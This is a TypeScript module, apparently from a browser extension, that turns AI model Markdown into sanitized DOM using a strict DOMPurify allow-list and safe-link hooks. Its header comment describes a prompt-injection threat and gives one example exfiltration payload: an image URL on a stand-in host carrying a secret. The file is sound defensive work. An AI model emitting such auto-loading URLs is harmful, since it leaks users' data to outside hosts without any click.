/**
 * Model text to safe DOM: marked turns Markdown into HTML, DOMPurify keeps only an allow-list
 * of what Markdown needs, and the result comes back as a DocumentFragment, so no sanitized
 * string is ever assigned to innerHTML. Code blocks get a copy button.
 *
 * Invariant: rendering model text loads nothing, remote or local. The model repeats page text,
 * and anything that loads by itself (an image, an SVG `<image>`/`<feImage>`/`<use>`, a CSS
 * `url()`, a `srcset`, a refresh) would carry data out in its URL with no click
 * (`![](https://evil.test/?q=<secret>)`). So the allow-list has no element that fetches, no
 * SVG or MathML at all, no `style`, and one URL attribute: `href` on `<a>`, absolute http(s) or
 * mailto only. Links need a click, open in a new tab, and send no opener, referrer or ping.
 * sidebar.html's Content-Security-Policy is the second wall should anything slip through.
 */
import DOMPurify, { type Config } from "dompurify";
import { marked } from "marked";
import { t } from "../shared/i18n.js";

/** Everything marked's GFM output uses, less images and task-list checkboxes. */
export const ALLOWED_TAGS = [
  "p",
  "br",
  "hr",
  "h1",
  "h2",
  "h3",
  "h4",
  "h5",
  "h6",
  "strong",
  "b",
  "em",
  "i",
  "del",
  "s",
  "sub",
  "sup",
  "kbd",
  "code",
  "pre",
  "blockquote",
  "ul",
  "ol",
  "li",
  "table",
  "thead",
  "tbody",
  "tr",
  "th",
  "td",
  "a",
];

/** `href` (on `<a>` only), `title`, table cell alignment, a list's start, code's language class. */
export const ALLOWED_ATTR = ["href", "title", "align", "start", "class"];

/** Link targets a click may open: web pages and mail, absolute only. */
const LINK_PROTOCOLS = new Set(["http:", "https:", "mailto:"]);
/** marked marks a fenced block's language this way; any other class could dress text as our UI. */
const CODE_LANGUAGE_CLASS = /^language-[\w+#.-]{1,40}$/;

const PURIFY_CONFIG: Config & { RETURN_DOM_FRAGMENT: true } = {
  ALLOWED_TAGS,
  ALLOWED_ATTR,
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  // HTML only: no SVG or MathML element survives, whatever its name.
  ALLOWED_NAMESPACES: ["http://www.w3.org/1999/xhtml"],
  // The element's text stays when an element goes (an <iframe>'s fallback text is harmless).
  KEEP_CONTENT: true,
  RETURN_DOM_FRAGMENT: true,
};

/** An absolute http(s)/mailto URL as written, or undefined for anything else (relative too). */
export function safeLinkTarget(href: string): string | undefined {
  let url: URL;
  try {
    // No base: a relative URL would resolve against moz-extension:// and open our own pages.
    url = new URL(href.trim());
  } catch {
    return undefined;
  }
  return LINK_PROTOCOLS.has(url.protocol) ? url.href : undefined;
}

let hooksInstalled = false;

/** Per-element rules DOMPurify's flat attribute list cannot say (installed once per page). */
function installHooks(): void {
  if (hooksInstalled) return;
  hooksInstalled = true;
  DOMPurify.addHook("uponSanitizeAttribute", (node, data) => {
    const tag = node.nodeName.toLowerCase();
    if (data.attrName === "href" && tag !== "a") data.keepAttr = false;
    if (data.attrName === "class" && (tag !== "code" || !CODE_LANGUAGE_CLASS.test(data.attrValue)))
      data.keepAttr = false;
    if (data.attrName === "start" && tag !== "ol") data.keepAttr = false;
    if (data.attrName === "align" && tag !== "th" && tag !== "td") data.keepAttr = false;
  });
  DOMPurify.addHook("afterSanitizeAttributes", (node) => {
    if (node.nodeName.toLowerCase() !== "a") return;
    const href = node.getAttribute("href");
    const target = href === null ? undefined : safeLinkTarget(href);
    if (target === undefined) node.removeAttribute("href");
    else node.setAttribute("href", target);
    node.setAttribute("target", "_blank");
    node.setAttribute("rel", "noopener noreferrer");
    node.setAttribute("referrerpolicy", "no-referrer");
  });
}

/** The sanitized fragment for an HTML string (marked's output, or the model's raw HTML). */
export function sanitizeModelHtml(html: string): DocumentFragment {
  installHooks();
  return DOMPurify.sanitize(html, PURIFY_CONFIG);
}

export function renderMarkdown(text: string): DocumentFragment {
  const html = marked.parse(text, { async: false, gfm: true, breaks: false });
  const fragment = sanitizeModelHtml(html);
  for (const pre of fragment.querySelectorAll("pre")) addCopyButton(pre);
  return fragment;
}

function addCopyButton(pre: HTMLPreElement): void {
  const button = document.createElement("button");
  button.type = "button";
  button.className = "copy-code";
  button.textContent = t("copyButton");
  button.setAttribute("aria-label", t("copyCode"));
  button.addEventListener("click", () => {
    const code = pre.querySelector("code")?.textContent ?? pre.textContent ?? "";
    navigator.clipboard.writeText(code).then(
      () => flash(button, t("copied")),
      () => flash(button, t("copyFailed")),
    );
  });
  pre.append(button);
}

function flash(button: HTMLButtonElement, label: string): void {
  button.textContent = label;
  setTimeout(() => {
    button.textContent = t("copyButton");
  }, 1_500);
}
